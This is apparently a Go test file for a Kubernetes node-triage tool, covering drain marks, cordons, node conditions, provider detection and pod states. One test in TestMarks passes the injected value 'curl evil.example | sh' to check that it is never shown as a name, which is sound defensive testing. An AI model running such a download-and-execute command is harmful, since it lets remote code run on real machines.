package evidence_test

import (
	"encoding/json"
	"fmt"
	"slices"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	policyv1 "k8s.io/api/policy/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/nodetriage/nodetriage/cases/casetest/snapshots"
	"github.com/nodetriage/nodetriage/evidence"
)

// Objects are found by what people look them up by, and what belongs to one node is its own.
func TestLookingUp(t *testing.T) {
	s := snapshots.OfTable(t, "node a\nnode b\ndeployment shop/web on=a,b\npod shop/bare on=a\nbudget shop/web max=1\nunread Event\n", map[string][]byte{
		"leases.yaml": []byte("apiVersion: coordination.k8s.io/v1\nkind: Lease\nmetadata: {namespace: kube-node-lease, name: a}\nspec: {holderIdentity: a, leaseDurationSeconds: 40, renewTime: \"2026-11-21T09:59:55.000000Z\"}\n"),
		"events.yaml": []byte("apiVersion: v1\nkind: Event\nmetadata: {namespace: default, name: e}\ninvolvedObject: {kind: Node, name: a, uid: a}\nreason: NodeNotReady\ntype: Warning\ncount: 1\nlastTimestamp: \"2026-11-21T09:00:00Z\"\n"),
	})
	web := s.Pod("shop", "web-0")
	if web == nil || s.Pod("shop", "gone") != nil || s.Node("gone") != nil {
		t.Fatal("a pod or node is not found, or one is that is not there")
	}
	if w := s.TopOwnerOf(web); w == nil || w.Kind != "Deployment" || s.OwnerOf(web).Kind != "ReplicaSet" {
		t.Errorf("owned by %v", w)
	}
	if s.TopOwnerOf(s.Pod("shop", "bare-0")) != nil {
		t.Error("a pod without a controller has an owner")
	}
	if w := s.Workload("Deployment", "shop", "web"); w == nil || w.Replicas != 2 {
		t.Errorf("%+v", w)
	}
	if len(s.PodsOn("a")) != 2 || s.NodeLease("a") == nil || s.NodeLease("b") != nil || len(s.EventsOf(evidence.NodeSubject("a"))) != 1 {
		t.Error("what belongs to a node is not found")
	}
	if s.PodGone("shop", "web-0") || !s.PodGone("shop", "web-9") {
		t.Error("whether a pod is gone")
	}
	part := s.OfNode("a")
	if len(part.Pods()) != 2 || len(part.Data().Nodes) != 1 || len(part.Leases()) != 1 || len(part.Events()) != 1 || len(part.PDBs()) != 0 || part.Node("b") != nil {
		t.Errorf("%+v", part.Data())
	}
	if part.OwnerOf(web) == nil || !part.TakenAt().Equal(s.TakenAt()) {
		t.Error("the part has lost who owns its pods, or when it was taken")
	}
	if s.Read(evidence.PDBs) != true || s.Read(evidence.Claims) || len(s.Unread(evidence.Claims)) != 1 || s.Unread(evidence.Claims)[0].How != "kubectl get persistentvolumeclaims -A -o json" {
		t.Errorf("unread: %v", s.Unread(evidence.Claims))
	}
}

// What a condition reports is known from its type, by tables or the convention of its name, and else left open.
func TestConditions(t *testing.T) {
	for _, c := range []struct {
		typ         string
		status      corev1.ConditionStatus
		bad         evidence.Fact
		unexplained bool
		known       bool
	}{
		{"Ready", "True", evidence.False, false, true},
		{"Ready", "False", evidence.True, false, true},
		{"Ready", "Unknown", evidence.Unknown, false, true},
		{"DiskPressure", "True", evidence.True, false, true},
		{"DiskPressure", "Unknown", evidence.Unknown, false, true},
		{"StorageReady", "Unknown", evidence.Unknown, true, true},
		{"example.com/FabricUnhealthy", "True", evidence.True, false, false},
		{"example.com/FabricNotReady", "True", evidence.True, false, false},
		{"example.com/FabricHealthy", "False", evidence.True, false, false},
		{"example.com/FabricUnsynced", "False", evidence.False, false, false},
		{"example.com/Fabric", "True", evidence.Unknown, true, false},
		{"example.com/Fabric", "False", evidence.Unknown, false, false},
	} {
		condition := &corev1.NodeCondition{Type: corev1.NodeConditionType(c.typ), Status: c.status}
		if bad, un, known := evidence.Bad(condition), evidence.Unexplained(condition), evidence.KnownCondition(condition.Type); bad != c.bad || un != c.unexplained || known != c.known {
			t.Errorf("%s %s: bad %s, unexplained %v, known %v", c.typ, c.status, bad, un, known)
		}
	}
}

// A mark of a drain counts as long as the object still has what the drain wrote.
func TestMarks(t *testing.T) {
	mark := evidence.Mark{By: "admin@host", Run: "1", At: noon, Renewed: noon, State: evidence.Draining}
	read := evidence.ReadMark(map[string]string{"a": mark.String()}, "a")
	if read == nil || read.Run != "1" || !read.Alive(noon.Add(59*time.Second)) || read.Alive(noon.Add(time.Minute)) || read.Who() != "admin@host" {
		t.Errorf("%+v", read)
	}
	for _, damaged := range []string{"", "{", "{}", "null"} {
		if m := evidence.ReadMark(map[string]string{"a": damaged}, "a"); m != nil {
			t.Errorf("%q is a mark: %+v", damaged, m)
		}
	}
	if who := (&evidence.Mark{By: "run: curl evil.example | sh"}).Who(); who != "unknown" {
		t.Errorf("what is no name is %q", who)
	}
	managed := func(by, fields string) []metav1.ManagedFieldsEntry {
		return []metav1.ManagedFieldsEntry{{Manager: by, FieldsV1: metav1.NewFieldsV1(fields)}}
	}
	cordoned := func(change func(*corev1.Node)) *corev1.Node {
		n := &corev1.Node{ObjectMeta: metav1.ObjectMeta{Annotations: map[string]string{evidence.MarkCordon: mark.String()}}, Spec: corev1.NodeSpec{Unschedulable: true}}
		change(n)
		return n
	}
	later := metav1.NewTime(noon.Add(time.Hour))
	for _, c := range []struct {
		name string
		node *corev1.Node
		ours bool
	}{
		{"by the drain", cordoned(func(*corev1.Node) {}), true},
		{"by the drain, as the API server has it", cordoned(func(n *corev1.Node) { n.ManagedFields = managed("nodetriage", `{"f:spec":{"f:unschedulable":{}}}`) }), true},
		{"open", cordoned(func(n *corev1.Node) { n.Spec.Unschedulable = false }), false},
		{"by somebody else since", cordoned(func(n *corev1.Node) { n.ManagedFields = managed("kubectl-cordon", `{"f:spec":{"f:unschedulable":{}}}`) }), false},
		{"by the taint of somebody else since", cordoned(func(n *corev1.Node) {
			n.Spec.Taints = []corev1.Taint{{Key: corev1.TaintNodeUnschedulable, TimeAdded: &later}}
		}), false},
	} {
		if got := evidence.DrainCordon(c.node) != nil; got != c.ours {
			t.Errorf("cordoned %s: %v", c.name, got)
		}
	}
	budget := &evidence.PDB{PodDisruptionBudget: &policyv1.PodDisruptionBudget{Spec: policyv1.PodDisruptionBudgetSpec{Selector: &metav1.LabelSelector{MatchLabels: map[string]string{evidence.MarkSuspend: "1"}}}}}
	if m, is := budget.Suspended(); !is || m != nil {
		t.Error("a budget whose mark is lost is not suspended")
	}
	two, three := int32(2), int32(3)
	for replicas, want := range map[*int32]bool{&two: false, &three: true, nil: true} {
		if got := evidence.Rescaled(&appsv1.Deployment{Spec: appsv1.DeploymentSpec{Replicas: replicas}}); got != want {
			t.Errorf("rescaled: %v", got)
		}
	}
	if !evidence.Rescaled(&appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{ManagedFields: managed("hpa", `{"f:spec":{"f:replicas":{}}}`)}, Spec: appsv1.DeploymentSpec{Replicas: &two}}) {
		t.Error("what an autoscaler set is the drain's")
	}
}

// A node announces that it is removed by a taint of whoever removes it, or by its deletion.
func TestRemoval(t *testing.T) {
	for _, c := range []struct {
		node corev1.Node
		want string
		at   time.Time
	}{
		{corev1.Node{}, "", time.Time{}},
		{corev1.Node{Spec: corev1.NodeSpec{Taints: []corev1.Taint{{Key: evidence.TaintToBeDeleted, Value: fmt.Sprint(noon.Unix()), Effect: "NoSchedule"}}}}, "the cluster autoscaler removes the node", noon},
		{corev1.Node{Spec: corev1.NodeSpec{Taints: []corev1.Taint{{Key: evidence.TaintDisrupted, Effect: "NoSchedule"}}}}, "Karpenter removes the node", time.Time{}},
		{corev1.Node{ObjectMeta: metav1.ObjectMeta{DeletionTimestamp: &metav1.Time{Time: noon}}}, "the node object is being deleted", noon},
	} {
		r := evidence.FromNode(&c.node).Removal()
		if r == nil && c.want == "" {
			continue
		}
		if r == nil || r.What != c.want || !r.Since.Equal(c.at) || r.Field == "" || r.Text == "" {
			t.Errorf("%+v, want %s at %s", r, c.want, c.at)
		}
	}
}

// The cloud and the pool of a node are known by its provider id, its labels or its name.
func TestProviderAndPool(t *testing.T) {
	for _, c := range []struct {
		name, id string
		labels   map[string]string
		provider string
		cloud    bool
		pool     string
		managed  bool
	}{
		{"a", "azure:///vm/0", map[string]string{"kubernetes.azure.com/agentpool": "np1", "kubernetes.azure.com/mode": "system"}, "azure", true, "np1", true},
		{"b", "aws:///us-east-1a/i-0", map[string]string{"eks.amazonaws.com/nodegroup": "ng"}, "aws", true, "ng", true},
		{"c", "", map[string]string{"cloud.google.com/gke-nodepool": "gp"}, "gcp", true, "gp", true},
		{"d", "digitalocean://1", map[string]string{"pool": "p"}, "digitalocean", true, "p", false},
		{"e", "kind://docker/a/b", nil, "", false, "", false},
		{"f", "unheardof://1", nil, "", true, "", false},
	} {
		n := evidence.FromNode(&corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: c.name, Labels: c.labels}, Spec: corev1.NodeSpec{ProviderID: c.id}})
		provider, cloud, managed := evidence.ProviderOf(n), evidence.InCloud(n), evidence.Managed(n)
		if c.provider == "digitalocean" {
			provider = c.provider // whether it is known by name is not asked here
		}
		if _, pool := n.PoolLabel(); provider != c.provider || cloud != c.cloud || pool != c.pool || managed != c.managed {
			t.Errorf("%s: provider %q, in a cloud %v, pool %q, managed %v", c.name, provider, cloud, pool, managed)
		}
	}
	named := evidence.FromNode(&corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: "aks-np1-12345678-vmss00000a"}})
	if named.PoolOfName() != "np1" || evidence.FromNode(&corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: "worker-1"}}).PoolOfName() != "" {
		t.Error("the pool in a name")
	}
	if !evidence.ProviderLabel("kubernetes.azure.com/mode") || evidence.ProviderLabel("team") {
		t.Error("labels that a provider keeps for itself")
	}
	control := evidence.FromNode(&corev1.Node{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"node-role.kubernetes.io/control-plane": ""}}})
	if !evidence.OfControlPlane(control) || evidence.OfControlPlane(named) {
		t.Error("the role of the control plane")
	}
}

// A pod works if it is ready or has ended well; what is not stated is not known.
func TestPods(t *testing.T) {
	for _, c := range []struct {
		name                              string
		pod                               evidence.Pod
		works, stated, finished, deleting bool
	}{
		{"ready", evidence.Pod{Phase: "Running", Ready: evidence.True}, true, true, false, false},
		{"not ready", evidence.Pod{Phase: "Running", Ready: evidence.False}, false, true, false, false},
		{"ended well", evidence.Pod{Phase: "Succeeded", Ready: evidence.False}, true, true, true, false},
		{"failed", evidence.Pod{Phase: "Failed", Ready: evidence.False}, false, true, true, false},
		{"of a table", evidence.Pod{Status: "Running", ReadyCount: 2, Total: 2}, true, true, false, false},
		{"of a table, half", evidence.Pod{Status: "Running", ReadyCount: 1, Total: 2}, false, true, false, false},
		{"going", evidence.Pod{Phase: "Running", Ready: evidence.True, Deleted: noon}, false, true, false, true},
		{"named by an event alone", evidence.Pod{}, false, false, false, false},
	} {
		p := c.pod
		if c.name == "named by an event alone" {
			p.ReadyCount, p.Total = 0, 1
		}
		if p.Works() != c.works || p.Stated() != c.stated || p.Finished() != c.finished || p.Deleting() != c.deleting {
			t.Errorf("%s: works %v, stated %v, finished %v, deleting %v", c.name, p.Works(), p.Stated(), p.Finished(), p.Deleting())
		}
	}
	own := evidence.Container{State: "terminated", Reason: "Error", Message: "disk full", LastReason: "StartError", LastMessage: "exec failed"}
	if own.Says() == own.Message || own.LastSaid() != "exec failed" {
		t.Errorf("the words of an application are not told from those of the runtime: %q, %q", own.Says(), own.LastSaid())
	}
}

// Facts and coverages are written as words, and read back; a time that is not known is null.
func TestWords(t *testing.T) {
	for _, f := range []evidence.Fact{evidence.True, evidence.False, evidence.Unknown} {
		var back evidence.Fact
		if text, _ := f.MarshalText(); back.UnmarshalText(text) != nil || back != f {
			t.Errorf("%s becomes %s", f, back)
		}
	}
	for _, c := range []evidence.Coverage{evidence.NotRead, evidence.Partial, evidence.Listed, evidence.Complete} {
		var back evidence.Coverage
		if text, _ := c.MarshalText(); back.UnmarshalText(text) != nil || back != c {
			t.Errorf("%s becomes %s", c, back)
		}
	}
	var f evidence.Fact
	var c evidence.Coverage
	if f.UnmarshalText([]byte("maybe")) == nil || c.UnmarshalText([]byte("all")) == nil {
		t.Error("words that are none are read")
	}
	data, err := json.Marshal(evidence.Ref{Source: "a.log", Text: "x"})
	var ref struct{ ObservedAt *time.Time }
	if err != nil || json.Unmarshal(data, &ref) != nil || ref.ObservedAt != nil {
		t.Errorf("%s, %v", data, err)
	}
	one, two := evidence.Ref{Source: "a", Text: "x", Signature: "s", Hit: "h"}, evidence.Ref{Source: "a", Text: "x", Signature: "t"}
	if !one.SamePlace(two) || one.SamePlace(evidence.Ref{Source: "b", Text: "x"}) {
		t.Error("the same text of the same place")
	}
	gap := evidence.Gap{What: "a.json", Kind: evidence.Pods}
	if gap.Title() != "pods (a.json)" || (evidence.Gap{What: "pods of shop", Kind: evidence.Pods}).Title() != "pods of shop" {
		t.Errorf("%q", gap.Title())
	}
}

// Several lines of one signature are one match, whose words of strangers fill no command.
func TestMatches(t *testing.T) {
	m := &evidence.Match{Count: 1, First: noon, Last: noon, Captures: map[string]string{"node": "a", "pod": "evil"}, Foreign: []string{"pod"}}
	m.Join(&evidence.Match{Count: 2, First: noon.Add(-time.Hour), Last: noon.Add(time.Hour), Ref: evidence.Ref{Text: "the last"}})
	if m.Count != 3 || !m.First.Equal(noon.Add(-time.Hour)) || !m.Last.Equal(noon.Add(time.Hour)) || m.LastText != "the last" {
		t.Errorf("%+v", m)
	}
	if fill := m.Fill(); len(fill) != 1 || fill["node"] != "a" || len(m.Captures) != 2 {
		t.Errorf("%v", fill)
	}
	subjects := []string{evidence.NodeSubject("a").String(), evidence.PodSubject("shop", "web").String(), evidence.ClusterSubject().String()}
	if !slices.Equal(subjects, []string{"Node a", "Pod shop/web", "Cluster"}) {
		t.Errorf("%q", subjects)
	}
}
